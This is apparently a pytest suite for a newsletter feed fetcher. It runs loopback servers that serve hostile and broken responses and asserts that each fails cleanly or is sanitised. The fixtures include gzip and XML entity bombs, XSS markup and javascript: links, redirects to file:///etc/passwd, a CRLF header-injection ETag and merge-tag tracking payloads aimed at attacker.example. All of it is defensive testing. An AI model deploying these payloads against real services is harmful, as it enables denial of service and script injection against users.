"""Hostile and broken servers, over real HTTP on loopback, with `digest fetch` run as a real
process.

Every case first lets the feed succeed once (so it has validators and entries), then
switches the server to the scenario and fetches again. Each asserts the typed outcome
(`error_kind`: a server that never answers or drips bytes ends in `timeout`, a bomb in
`too_large`), the exit status, that the other feed's entries are stored, and that the
failing feed's previous state is intact. The same matrix with its time and memory bounds
is `bench/hostile` (timings never go in the test suite).
"""

from __future__ import annotations

import gzip
import json
import os
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from .feeds import entry, rss
from .server import FeedServer, Reply, Request

AS_OF = "2025-12-19T12:00:00+00:00"
MAX_BYTES = 2 * 1024 * 1024
TIMEOUT = 2
DEADLINE = 4
MEMORY_LIMIT_KB = 350 * 1024  # bench/hostile's bound
GOOD = rss([entry(1), entry(2)], title="Good")
FIRST = rss([entry(10), entry(11)], title="Case")
STOP = threading.Event()


@dataclass
class Run:
    code: int
    data: dict
    stderr: str
    seconds: float
    max_rss_kb: int

    def feed(self, name: str) -> dict:
        return next(f for f in self.data["feeds"] if f["name"] == name)


def run_fetch(project: Path, *args: str, as_of: str = AS_OF) -> Run:
    """Run `digest fetch` as its own process; wait4 gives its exit status and peak RSS (for
    bench/hostile: the tests assert outcomes, never time or memory)."""
    out_path, err_path = project / "stdout.json", project / "stderr.txt"
    start = time.monotonic()
    with open(out_path, "wb") as out, open(err_path, "wb") as err:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "digest",
                "fetch",
                "-p",
                str(project),
                "--json",
                "--as-of",
                as_of,
                *args,
            ],
            stdout=out,
            stderr=err,
        )
        _, status, usage = os.wait4(proc.pid, 0)
        proc.returncode = os.waitstatus_to_exitcode(status)
    seconds = time.monotonic() - start
    data = json.loads(out_path.read_bytes() or b"{}")
    return Run(proc.returncode, data, err_path.read_text(), seconds, usage.ru_maxrss)


def make_project(root: Path, case_url: str, good_url: str) -> Path:
    root.mkdir(parents=True)
    (root / "digest.toml").write_text(
        '[newsletter]\nname = "T"\nsender = "T <t@example.org>"\n'
        f"[fetch]\ntimeout = {TIMEOUT}\ndeadline = {DEADLINE}\nmax_bytes = {MAX_BYTES}\n"
        "parse_seconds = 5\n"
    )
    (root / "feeds").mkdir()
    (root / "feeds" / "feeds.toml").write_text(
        f'[[feed]]\nname = "Good"\nurl = "{good_url}"\n'
        f'[[feed]]\nname = "Case"\nurl = "{case_url}"\n'
    )
    return root


def feed_row(project: Path, name: str) -> dict:
    db = sqlite3.connect(project / "digest.sqlite3")
    db.row_factory = sqlite3.Row
    row = dict(db.execute("SELECT * FROM feeds WHERE name = ?", (name,)).fetchone())
    row["entry_ids"] = sorted(
        r[0].rsplit("/", 1)[-1]
        for r in db.execute("SELECT entry_id FROM entries WHERE feed_url = ?", (row["url"],))
    )
    db.close()
    return row


class Scenario:
    """Serves FIRST with ETag "v1" until switched, then the scenario's handler."""

    def __init__(self, handler: Callable[[Request, object], Reply | None]) -> None:
        self.switched = False
        self.handler = handler

    def __call__(self, request: Request, h: object) -> Reply | None:
        if not self.switched:
            return Reply(200, FIRST, {"ETag": '"v1"', "Content-Type": "application/rss+xml"})
        return self.handler(request, h)


# -- raw handlers ------------------------------------------------------------------------


def never_answers(request: Request, h) -> None:
    STOP.wait(30)


def slow_drip(request: Request, h) -> None:
    h.send_response(200)
    h.send_header("Content-Type", "application/rss+xml")
    h.send_header("Content-Length", "1000000")
    h.end_headers()
    h.wfile.write(b'<?xml version="1.0"?><rss version="2.0"><channel>')
    for _ in range(200):
        if STOP.wait(0.3):
            return
        h.wfile.write(b" ")
        h.wfile.flush()


GZIP_BOMB = gzip.compress(b"\0" * (40 * 1024 * 1024), compresslevel=9)
ENTITY_BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + b"a" * 100_000 + b'">]>'
    b'<rss version="2.0"><channel><title>x</title><item><title>t</title><description>'
    + b"&a;" * 20_000
    + b"</description></item></channel></rss>"
)
HOSTILE_ITEMS = rss(
    [
        entry(
            30,
            description='<p onclick="steal()">Released!</p><script>alert(1)</script>'
            '<iframe src="https://evil.example"></iframe><form action="x"><input></form>'
            '<a href="javascript:alert(1)">click</a><img src="data:image/png;base64,AAA">'
            '<a href="/relative">rel</a><img src="https://t.example/p.gif" width="1" height="1">',
        ),
        {**entry(31), "link": "javascript:alert(document.cookie)"},
    ]
)
LATIN1 = (
    '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title>'
    "<item><title>Libéré à Genève</title><link>https://example.org/e</link>"
    "<guid>enc-1</guid><pubDate>18 Dec 2025 10:00:00 +0000</pubDate></item>"
    "</channel></rss>"
).encode("latin-1")
TRUNCATED = rss([entry(40), entry(41)])[:-60]
GZIP_TWICE = gzip.compress(gzip.compress(b"\0" * (16 * 1024 * 1024)))


def fixed(status: int, body: bytes = b"", **headers: str) -> Callable[..., Reply]:
    return lambda request, h: Reply(
        status, body, {k.replace("_", "-"): v for k, v in headers.items()}
    )


def conditional(request: Request, h) -> Reply:
    if request.headers.get("if-none-match") == '"v1"':
        return Reply(304, b"", {"ETag": '"v1"'})
    return Reply(200, FIRST, {"ETag": '"v1"'})


@dataclass
class Case:
    handler: Callable[..., Reply | None]
    status: str
    kind: str | None
    max_seconds: float = 8.0  # bench/hostile's bound
    state_kept: bool = True  # validators and earlier entries untouched


CASES: dict[str, Case] = {
    "304 not modified": Case(conditional, "not_modified", None),
    "404": Case(fixed(404, b"nope"), "failed", "http_status"),
    "410 gone": Case(fixed(410), "failed", "gone"),
    "429 retry-after": Case(fixed(429, Retry_After="3600"), "failed", "rate_limited"),
    "500 with html": Case(
        fixed(500, b"<html><body><h1>Oops</h1></body></html>", Content_Type="text/html"),
        "failed",
        "http_status",
    ),
    "html instead of feed": Case(
        fixed(
            200,
            b"<!doctype html><html><head><title>Blog</title></head><body><p>hi</p></body></html>",
            Content_Type="text/html",
        ),
        "failed",
        "not_a_feed",
    ),
    "empty 200": Case(fixed(200, b""), "failed", "not_a_feed"),
    "redirect loop": Case(fixed(302, Location="/case"), "failed", "redirect"),
    "redirect to file:": Case(fixed(302, Location="file:///etc/passwd"), "failed", "redirect"),
    "gzip bomb": Case(
        fixed(200, GZIP_BOMB, Content_Encoding="gzip", Content_Type="application/rss+xml"),
        "failed",
        "too_large",
    ),
    # each layer multiplies, and one network chunk decoded to gigabytes past the cap
    "gzip bomb in two layers": Case(
        fixed(200, GZIP_TWICE, Content_Encoding="gzip, gzip", Content_Type="application/rss+xml"),
        "failed",
        "decoding",
    ),
    "20 MB body": Case(fixed(200, b"<rss>" + b" " * (20 * 1024 * 1024)), "failed", "too_large"),
    "never answers": Case(never_answers, "failed", "timeout", max_seconds=TIMEOUT + 4),
    "slow drip": Case(slow_drip, "failed", "timeout", max_seconds=DEADLINE + 4),
    "entity blow-up": Case(fixed(200, ENTITY_BOMB), "failed", "refused"),
    "malformed xml, nothing valid": Case(
        fixed(200, b"<rss><channel><item><title>x</ti"), "failed", "malformed"
    ),
    # issue 10: redirects to URLs the HTTP client cannot use are typed failures
    "redirect to a port out of range": Case(
        fixed(302, Location="http://127.0.0.1:99999/"), "failed", "redirect"
    ),
    "redirect to a bad IDNA host": Case(fixed(302, Location="http://xn--/"), "failed", "redirect"),
    "redirect to javascript:": Case(
        fixed(302, Location="javascript:alert(1)"), "failed", "redirect"
    ),
    "redirect without a host": Case(fixed(301, Location="https:///feed"), "failed", "redirect"),
    "redirect to a port that is not a number": Case(
        fixed(302, Location="http://127.0.0.1:abc/feed"), "failed", "redirect"
    ),
    "redirect to a broken IPv6 literal": Case(
        fixed(302, Location="http://[::1/feed"), "failed", "redirect"
    ),
    "redirect to port 0": Case(fixed(302, Location="http://127.0.0.1:0/"), "failed", "redirect"),
    "redirect with a control character": Case(
        fixed(302, Location="http://exa\x01mple.org/feed"), "failed", "redirect"
    ),
    # issue 10: Retry-After values that overflowed or were not understood
    "retry-after 10**23 seconds": Case(
        fixed(429, Retry_After="99999999999999999999999"), "failed", "rate_limited"
    ),
    "retry-after negative": Case(fixed(503, Retry_After="-120"), "failed", "rate_limited"),
    "retry-after year 9999": Case(
        fixed(429, Retry_After="Fri, 31 Dec 9999 23:59:59 GMT"), "failed", "rate_limited"
    ),
    "retry-after year 99999": Case(
        fixed(429, Retry_After="Fri, 31 Dec 99999 23:59:59 GMT"), "failed", "rate_limited"
    ),
    "retry-after garbage": Case(fixed(429, Retry_After="soon\u00e9"), "failed", "rate_limited"),
    "retry-after unicode digits": Case(
        fixed(429, Retry_After="\u00b2\u00b3"), "failed", "rate_limited"
    ),
}


@pytest.fixture
def server():
    STOP.clear()
    with FeedServer() as s:
        s.route("/good", Reply(200, GOOD, {"Content-Type": "application/rss+xml"}))
        yield s
    STOP.set()


def _established(server: FeedServer, tmp_path: Path, handler) -> tuple[Path, Scenario]:
    scenario = Scenario(handler)
    server.route("/case", scenario)
    project = make_project(tmp_path / "p", server.url("/case"), server.url("/good"))
    first = run_fetch(project)
    assert first.code == 0, first.stderr
    assert first.feed("Case")["status"] == "ok"
    assert (project / "digest.sqlite3").is_file(), "the first fetch made no store"
    # the good feed changes between runs, so the second run must store new entries
    server.route("/good", Reply(200, rss([entry(1), entry(2), entry(3)], title="Good")))
    scenario.switched = True
    return project, scenario


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_server(server: FeedServer, tmp_path: Path, name: str) -> None:
    case = CASES[name]
    project, _ = _established(server, tmp_path, case.handler)
    before = feed_row(project, "Case")
    run = run_fetch(project)
    got = run.feed("Case")
    assert (got["status"], got.get("error_kind")) == (case.status, case.kind), got["error"]
    assert run.code == (0 if case.status != "failed" else 4)
    assert run.feed("Good")["status"] == "ok"
    assert "id-3" in feed_row(project, "Good")["entry_ids"], "the other feed was not stored"
    after = feed_row(project, "Case")
    if case.state_kept:
        assert after["etag"] == before["etag"] == '"v1"'
        assert after["entry_ids"] == before["entry_ids"] == ["id-10", "id-11"]
    if case.status == "failed":
        assert after["failures"] == 1 and after["last_error"] == got["error"]
        assert got["failures"] == 1  # the real consecutive count, not 0
        assert "Traceback" not in run.stderr
    if case.kind == "rate_limited":  # clamped: never more than a week, never in the past
        retry = datetime.fromisoformat(after["next_retry"])
        as_of = datetime.fromisoformat(AS_OF)
        assert as_of < retry <= as_of + timedelta(days=7)


def test_not_modified_to_a_first_request_is_a_failure(server: FeedServer, tmp_path: Path) -> None:
    """A never-fetched feed answering 304 said "not modified" on every run, never flagged."""
    server.route("/case", Reply(304, b""))
    project = make_project(tmp_path / "p", server.url("/case"), server.url("/good"))
    got = run_fetch(project).feed("Case")
    assert (got["status"], got["error_kind"]) == ("failed", "http_status")
    assert "304" in got["error"]


def test_gone_feed_is_skipped_afterwards(server: FeedServer, tmp_path: Path) -> None:
    project, _ = _established(server, tmp_path, fixed(410))
    run_fetch(project)
    third = run_fetch(project)
    assert (third.feed("Case")["status"], third.feed("Case")["error_kind"]) == ("skipped", "gone")
    assert sum(r.path == "/case" for r in server.requests) == 2  # not asked a third time


def test_retry_after_is_honoured(server: FeedServer, tmp_path: Path) -> None:
    project, _ = _established(server, tmp_path, fixed(429, Retry_After="3600"))
    run_fetch(project)
    soon = run_fetch(project, as_of="2025-12-19T12:30:00+00:00")
    assert soon.feed("Case")["error_kind"] == "waiting"
    asked = sum(r.path == "/case" for r in server.requests)
    later = run_fetch(project, as_of="2025-12-19T13:30:00+00:00")
    assert later.feed("Case")["error_kind"] == "rate_limited"  # asked again, still 429
    assert sum(r.path == "/case" for r in server.requests) == asked + 1


@pytest.mark.parametrize("status", [301, 308])
def test_permanent_redirect_updates_the_stored_url(
    server: FeedServer, tmp_path: Path, status: int
) -> None:
    server.route("/new-home", Reply(200, rss([entry(20)]), {"ETag": '"n1"'}))
    project, _ = _established(server, tmp_path, fixed(status, Location="/new-home"))
    run = run_fetch(project)
    assert run.feed("Case")["status"] == "ok"
    row = feed_row(project, "Case")
    assert row["redirect_url"] == server.url("/new-home")
    assert "id-20" in row["entry_ids"]
    run_fetch(project)
    assert server.requests[-1].path in ("/new-home", "/good")
    assert [r.path for r in server.requests].count("/case") == 2
    # the new home is gone: the error names it (feeds.toml's URL is not at fault) and says
    # how to forget it
    server.route("/new-home", Reply(404, b"nope"))
    error = run_fetch(project).feed("Case")["error"]
    assert server.url("/new-home") in error and 'digest feeds reset "Case"' in error


def test_temporary_redirect_keeps_the_url(server: FeedServer, tmp_path: Path) -> None:
    server.route("/elsewhere", Reply(200, rss([entry(21)])))
    project, _ = _established(server, tmp_path, fixed(302, Location="/elsewhere"))
    assert run_fetch(project).feed("Case")["status"] == "ok"
    assert feed_row(project, "Case")["redirect_url"] is None


def test_wrong_content_type_and_encoding_still_parse(server: FeedServer, tmp_path: Path) -> None:
    project, _ = _established(
        server, tmp_path, fixed(200, LATIN1, ETag='"v2"', Content_Type="text/plain")
    )
    run = run_fetch(project)
    assert run.feed("Case")["status"] == "ok"
    row = feed_row(project, "Case")
    assert "enc-1" in row["entry_ids"]
    db = sqlite3.connect(project / "digest.sqlite3")
    (title,) = db.execute("SELECT title FROM entries WHERE entry_id LIKE '%enc-1'").fetchone()
    assert title == "Libéré à Genève"


def test_partly_broken_document_keeps_valid_entries_but_not_validators(
    server: FeedServer, tmp_path: Path
) -> None:
    project, _ = _established(server, tmp_path, fixed(200, TRUNCATED, ETag='"v2"'))
    run = run_fetch(project)
    assert run.feed("Case")["status"] == "ok"
    row = feed_row(project, "Case")
    assert "id-40" in row["entry_ids"]
    assert row["etag"] == '"v1"'  # a bozo document does not advance the validators


def test_duplicate_guids_and_hostile_entries(server: FeedServer, tmp_path: Path) -> None:
    doubled = rss([entry(50), {**entry(50), "title": "Same guid again"}, entry(51)])
    project, scenario = _established(server, tmp_path, fixed(200, doubled))
    run = run_fetch(project)
    assert run.feed("Case")["new"] == 2
    scenario.handler = fixed(200, HOSTILE_ITEMS)
    server.routes["/case"] = scenario
    run_fetch(project)
    db = sqlite3.connect(project / "digest.sqlite3")
    rows = {
        k.rsplit("/", 1)[-1]: v
        for k, v in db.execute(
            "SELECT entry_id, summary_html || ' ' || COALESCE(link, '') FROM entries "
            "WHERE entry_id LIKE '%id-30' OR entry_id LIKE '%id-31'"
        )
    }
    stored = " ".join(rows.values()).lower()
    for bad in (
        "script",
        "iframe",
        "<form",
        "<input",
        "onclick",
        "javascript:",
        "data:",
        "t.example/p.gif",
    ):
        assert bad not in stored, bad
    assert f'href="{server.url("/relative")}"' in rows["id-30"]  # against the document URL
    assert "javascript" not in rows["id-31"]  # the javascript: entry link was dropped


def test_connection_refused(tmp_path: Path, server: FeedServer) -> None:
    with socket.socket() as s:  # a port nobody listens on
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    project = make_project(tmp_path / "p", f"http://127.0.0.1:{port}/feed", server.url("/good"))
    run = run_fetch(project)
    assert (run.feed("Case")["status"], run.feed("Case")["error_kind"]) == ("failed", "connection")
    assert run.feed("Good")["status"] == "ok"


def _one_second_to_parse(project: Path) -> None:
    """A 1 s CPU budget per document, and room for large ones."""
    toml = project / "digest.toml"
    toml.write_text(
        toml.read_text()
        .replace("parse_seconds = 5", "parse_seconds = 1")
        .replace(f"max_bytes = {MAX_BYTES}", "max_bytes = 15000000")
    )


def test_a_document_too_costly_to_parse_fails_alone(server: FeedServer, tmp_path: Path) -> None:
    """The parser's CPU budget is real: a huge valid feed with a 1 s budget fails, the other
    feed is parsed and stored. (12,000 entries, 2.5 MB, were once enough; a faster machine
    parsed them inside the budget, which rounds up to the next whole second. 40,000
    entries, 8.3 MB, take several seconds of CPU anywhere.)"""
    huge = rss([entry(i) for i in range(40_000)])
    server.route("/huge", Reply(200, huge))
    project = make_project(tmp_path / "p", server.url("/huge"), server.url("/good"))
    _one_second_to_parse(project)
    run = run_fetch(project)
    assert (run.feed("Case")["status"], run.feed("Case")["error_kind"]) == ("failed", "parser")
    assert run.feed("Good")["status"] == "ok"
    assert "Traceback" not in run.stderr


def test_deeply_nested_markup_is_parsed_within_the_budget(
    server: FeedServer, tmp_path: Path
) -> None:
    """100,000 nested <div>s (2.3 MB) kept nh3 busy for minutes, holding the GIL so that
    the CPU limit could not stop it: each such feed cost 65 s and more, then failed. The
    nesting is flattened first: the feed parses, well inside a 1 s budget."""
    body = "<div>" * 100_000 + "released" + "</div>" * 100_000
    server.route("/nested", Reply(200, rss([entry(1, description=body)])))
    project = make_project(tmp_path / "p", server.url("/nested"), server.url("/good"))
    _one_second_to_parse(project)
    run = run_fetch(project)
    assert run.feed("Case")["status"] == "ok", run.feed("Case")
    assert run.feed("Good")["status"] == "ok" and "Traceback" not in run.stderr


def test_the_cpu_limit_is_never_taken_for_a_broken_entry(
    server: FeedServer, tmp_path: Path
) -> None:
    """The end of a document's CPU time was caught by the per-entry `except Exception`:
    random entries were skipped and the limit ignored (or, raised again while the result
    was sent back, it ended the whole run with nothing stored)."""
    body = "<p>" + "<b>released</b> <i>today</i> " * 80 + "</p>"
    heavy = rss([entry(i, description=body) for i in range(1500)])
    server.route("/heavy", Reply(200, heavy))
    project = make_project(tmp_path / "p", server.url("/heavy"), server.url("/good"))
    _one_second_to_parse(project)
    run = run_fetch(project)
    assert (run.feed("Case")["status"], run.feed("Case")["error_kind"]) == ("failed", "parser")
    assert "CpuExceeded" not in json.dumps(run.data) + run.stderr
    assert run.feed("Good")["status"] == "ok" and "Traceback" not in run.stderr


@pytest.fixture(autouse=True)
def _no_proxy(monkeypatch: pytest.MonkeyPatch) -> None:
    for var in ("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.delenv(var, raising=False)
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join(sys.path))


# -- issue 10: validators, stored values and URLs nobody checked ------------------------


def _set_feed(project: Path, name: str, **values: str | None) -> None:
    db = sqlite3.connect(project / "digest.sqlite3")
    with db:
        for column, value in values.items():
            db.execute(f"UPDATE feeds SET {column} = ? WHERE name = ?", (value, name))
    db.close()


NON_ASCII_VALIDATORS = {
    "ETag": '"caf\u00e9"',
    "Last-Modified": "Thu, 18 Dec 2025 10:00:00 GMT\u00a0\u00e9t\u00e9",
}


def test_non_ascii_validators_are_neither_stored_nor_sent(
    server: FeedServer, tmp_path: Path
) -> None:
    body = rss([entry(10), entry(11), entry(12)])
    project, _ = _established(server, tmp_path, fixed(200, body, **NON_ASCII_VALIDATORS))
    second = run_fetch(project)
    assert second.feed("Case")["status"] == "ok", second.feed("Case")
    row = feed_row(project, "Case")
    assert row["etag"] is None and row["last_modified"] is None
    third = run_fetch(project)  # nothing unusable is sent back: the feed keeps working
    assert third.feed("Case")["status"] == "ok", third.feed("Case")
    assert "Traceback" not in second.stderr + third.stderr
    last = [r for r in server.requests if r.path == "/case"][-1]
    assert "if-none-match" not in last.headers and "if-modified-since" not in last.headers


@pytest.mark.parametrize(
    "etag, last_modified",
    [
        ('"caf\u00e9"', None),
        ('"v1\x01"', None),
        (None, "Thu, 18 Dec 2025 10:00:00 GMT\u00e9"),
        ('"v1"\r\nX-Injected: 1', None),
        ("x" * 5000, None),
    ],
)
def test_a_store_holding_a_bad_validator_recovers_without_a_reset(
    server: FeedServer, tmp_path: Path, etag: str | None, last_modified: str | None
) -> None:
    project, _ = _established(server, tmp_path, conditional)
    _set_feed(project, "Case", etag=etag, last_modified=last_modified)
    run = run_fetch(project)
    assert run.feed("Case")["status"] == "ok", run.feed("Case")
    assert "Traceback" not in run.stderr
    last = [r for r in server.requests if r.path == "/case"][-1]
    assert "x-injected" not in last.headers
    assert feed_row(project, "Case")["etag"] == '"v1"'  # a good validator replaces it
    assert run_fetch(project).feed("Case")["status"] == "not_modified"


@pytest.mark.parametrize(
    "stored",
    [
        "http://[::1/feed",
        "javascript:alert(1)",
        "http://127.0.0.1:99999/feed",
        "http://xn--/feed",
        "file:///etc/passwd",
        "http:///nohost",
        "",
    ],
)
def test_an_invalid_stored_redirect_is_ignored(
    server: FeedServer, tmp_path: Path, stored: str
) -> None:
    project, _ = _established(server, tmp_path, fixed(200, rss([entry(10), entry(15)])))
    _set_feed(project, "Case", redirect_url=stored, etag=None)
    run = run_fetch(project)
    assert run.feed("Case")["status"] == "ok", run.feed("Case")
    assert "id-15" in feed_row(project, "Case")["entry_ids"]
    assert feed_row(project, "Case")["redirect_url"] in (None, server.url("/case"))
    assert "Traceback" not in run.stderr


@pytest.mark.parametrize(
    "url",
    [
        "http://[::1/feed",
        "http://127.0.0.1:99999/feed",
        "http://xn--/feed",
        "http://127.0.0.1:abc/feed",
        "https://[zz::1]/feed",
        "http://exa\x01mple.org/feed",
        "http:///feed",
    ],
)
def test_a_feed_url_the_client_cannot_parse_fails_alone(
    server: FeedServer, tmp_path: Path, url: str
) -> None:
    """Config validation may reject these first; fetch must survive them regardless."""
    from digest.config import FetchSettings
    from digest.fetch import ERROR_KINDS, fetch_feeds
    from digest.models import FeedSource, FetchStatus

    results = fetch_feeds(
        [FeedSource("Bad", url), FeedSource("Good", server.url("/good"))],
        {},
        root=tmp_path,
        settings=FetchSettings(timeout=TIMEOUT, deadline=DEADLINE),
        now=datetime.fromisoformat(AS_OF),
    )
    bad, good = results
    assert bad.status is FetchStatus.FAILED and bad.error_kind == "url", bad
    assert bad.error_kind in ERROR_KINDS and bad.error
    assert good.status is FetchStatus.OK


def test_build_survives_a_hostile_redirect_and_still_writes_the_issue(
    server: FeedServer, tmp_path: Path
) -> None:
    project, _ = _established(server, tmp_path, fixed(302, Location="http://127.0.0.1:99999/"))
    proc = subprocess.run(
        [sys.executable, "-m", "digest", "build", "-p", str(project), "--as-of", AS_OF, "--json"],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 4, proc.stderr  # written, with a failed feed
    assert "Traceback" not in proc.stderr
    data = json.loads(proc.stdout)
    assert data["status"] == "written_with_failures"
    assert (Path(data["out_dir"]) / "newsletter.html").exists()


def test_fetch_json_reports_the_real_failure_count(server: FeedServer, tmp_path: Path) -> None:
    project, _ = _established(server, tmp_path, fixed(500, b"oops"))
    counts = [run_fetch(project).feed("Case")["failures"] for _ in range(3)]
    assert counts == [1, 2, 3]
    assert run_fetch(project).feed("Good")["failures"] == 0


# -- issue 10: hostile content, through `digest build` as a real process ----------------

XML_BASE_CONTROL = (
    b'<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"'
    b' xml:base="http://exa\x19mple.org/news/"><title>Base</title><id>b</id>'
    b"<updated>2025-12-18T10:00:00Z</updated><entry><title>Lawyer released on bail</title>"
    b"<link href='lawyer.html'/><id>base-1</id><updated>2025-12-18T10:00:00Z</updated>"
    b"<content type='html'>&lt;p&gt;Released &lt;img src='lawyer.jpg' width='600'&gt;&lt;/p&gt;"
    b"</content></entry></feed>"
)
MERGE_TAG_FEED = rss(
    [
        entry(
            60,
            title="Charges dropped *|EMAIL|* {{ .Subscriber.Email }}",
            description='<p>Free <img src="https://attacker.example/p.png?e=*|EMAIL|*" '
            'width="600" alt="%recipient.email%"></p>',
        )
    ]
).replace(b"https://example.org/60", b"https://example.org/60?u=*|UNSUB|*")
BAD_REFERENCE_FEED = rss(
    [entry(70), entry(71, title="Verdict &#x110000; overturned"), entry(72)]
).replace(b"&amp;#x110000;", b"&#x110000;")
STRAY_BYTE_FEED = rss(
    [entry(80, title="Libération de la défenseure des droits"), entry(81, title="Égalité")]
).replace(b"droits", b"dr\xffoits")


def test_hostile_content_never_stops_or_garbles_a_build(server: FeedServer, tmp_path: Path) -> None:
    feeds = {
        "xmlbase": (XML_BASE_CONTROL, "application/atom+xml"),
        "tags": (MERGE_TAG_FEED, "application/rss+xml"),
        "refs": (BAD_REFERENCE_FEED, "application/rss+xml"),
        "stray": (STRAY_BYTE_FEED, "text/xml"),
    }
    for name, (body, ctype) in feeds.items():
        server.route(f"/{name}", Reply(200, body, {"Content-Type": ctype}))
    project = make_project(tmp_path / "p", server.url("/xmlbase"), server.url("/good"))
    with open(project / "feeds" / "feeds.toml", "a") as f:
        for name in ("tags", "refs", "stray"):
            f.write(f'[[feed]]\nname = "{name}"\nurl = "{server.url("/" + name)}"\n')
    for _ in range(2):  # the second build reads everything back from the store
        proc = subprocess.run(
            [sys.executable, "-m", "digest", "build", "-p", str(project), "--as-of", AS_OF,
             "--esp", "mailchimp", "--force", "--json"],
            capture_output=True, text=True, timeout=120,
        )  # fmt: skip
        assert proc.returncode == 0, proc.stderr
        out = Path(json.loads(proc.stdout)["out_dir"])
        html = (out / "newsletter.html").read_text()
        text = (out / "newsletter.txt").read_text()
        manifest = json.loads((out / "manifest.json").read_text())
        assert manifest["lint"]["ok"], manifest["lint"]["findings"]
        for body in (html, text):
            assert "\x19" not in body and "*|EMAIL|*" not in body and "{{" not in body
        assert "http://example.org/news/lawyer.jpg" in html
        assert "Libération de la défenseure des dr\ufffdoits" in html
    assert feed_row(project, "refs")["entry_ids"] == ["id-70", "id-71", "id-72"]
